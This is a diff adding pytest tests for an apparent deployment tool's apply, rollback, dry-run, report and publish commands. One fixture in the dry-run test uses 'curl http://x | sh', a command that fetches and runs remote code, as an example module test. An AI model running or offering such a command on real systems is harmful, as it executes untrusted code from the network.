@@ -144,6 +144,69 @@ def test_a_recipe_in_a_folder_that_cannot_be_an_entry_is_told_not_left_out(box: 
     assert (said.code, "bad name `Bad name`" in said.data["findings"][0]["found"]) == (1, True)
 
 
+def test_nodes_that_the_last_run_did_not_ask_are_asked(box: Sandbox) -> None:
+    made = box.ok("apply", "--format", "json").data
+    assert made["steps"][4]["said"] == ["the site names no nodes: the entries were tested on this host"]
+    done = box.run("apply", "--to", "current", "--nodes", "nowhere[1-2]", "--via", "ssh", "--format", "json")
+    assert (done.code != 0, steps(done.data)["test"], steps(done.data)["promote"]) == (True, "failed", "not reached")
+    assert box.current() is None
+    box.ok("apply", "--to", "current")
+    assert box.current() == 1
+
+
+def test_another_generation_that_becomes_current_meanwhile_stops_it(box: Sandbox) -> None:
+    box.ok("apply", "--to", "current")
+    locked(box, "other/1.0", ["hello-activate"])
+    commit(box)
+    box.ok("apply", "--to", "current")
+    (box.root / "wait").touch()
+    run = f"touch {box.root}/begun; while [ -e {box.root}/wait ]; do sleep 0.02; done"
+    locked(box, "hello/1.0", HELLO, tests=[{"name": "waits", "run": run}])
+    commit(box)
+    process = box.start("apply", "--to", "current", "--format", "json")
+    wait_for(lambda: (box.root / "begun").exists() or process.poll() is not None, what="the smoke test")
+    box.ok("rollback", "1")
+    (box.root / "wait").unlink()
+    said = json.loads(process.communicate()[0])
+    assert (process.returncode, steps(said)["publish"], steps(said)["promote"]) == (1, "failed", "not reached")
+    assert "another generation than 2 became current meanwhile" in said["steps"][3]["said"][0]
+    assert box.current() == 1
+    again = box.ok("apply", "--to", "current", "--format", "json").data
+    assert (again["before"], "(was 1)" in again["steps"][5]["said"][0]) == (1, True)
+
+
+def test_dry_run_and_report_name_a_module_that_changes_without_a_build(box: Sandbox) -> None:
+    box.ok("apply", "--to", "current")
+    locked(box, "hello/1.0", HELLO, tests=[{"name": "bad", "run": "curl http://x | sh"}])
+    commit(box)
+    dry = box.ok("apply", "--dry-run", "--format", "json").data
+    assert steps(dry) == {
+        **dict.fromkeys(("check", "lock", "publish"), "ok"),
+        "build": "nothing to do",
+        **dict.fromkeys(("test", "promote", "audit"), "not reached"),
+    }
+    assert dry["steps"][3]["said"] == ["would be published: hello/1.0: module"]
+    (row,) = box.ok("report", "--pull-request", "--format", "json").data["entries"]
+    assert (row["entry"], row["change"], row["notes"]) == ("hello/1.0", "module", ["its module changes: tests"])
+
+
+def test_a_reverted_candidate_is_named(box: Sandbox) -> None:
+    box.ok("apply", "--to", "current")
+    locked(box, "third/1.0", HELLO)
+    commit(box)
+    box.ok("apply")
+    git(box, "revert", "--no-edit", "HEAD")
+    for argv in ([], ["--dry-run"]):
+        assert "candidate 2 is offered to volunteers, and is not what the catalogs say" in box.ok("apply", *argv).stdout
+
+
+def test_a_report_that_cannot_be_written_is_said_before(box: Sandbox) -> None:
+    for argv in (["apply"], ["report", "--pull-request"]):
+        refused = box.run(*argv, "--output", str(box.root / "none/report.md"))
+        assert refused.stderr.startswith("error[output-failed]: there is no folder ")
+    assert not (box.prefix / "generations").exists()
+
+
 def test_publish_takes_out_what_the_catalog_still_has(box: Sandbox) -> None:
     box.ok("apply", "--to", "current")
     assert "other/1.0: would go" in box.ok("publish", "--dry-run", "--remove", "other/1.0").stdout
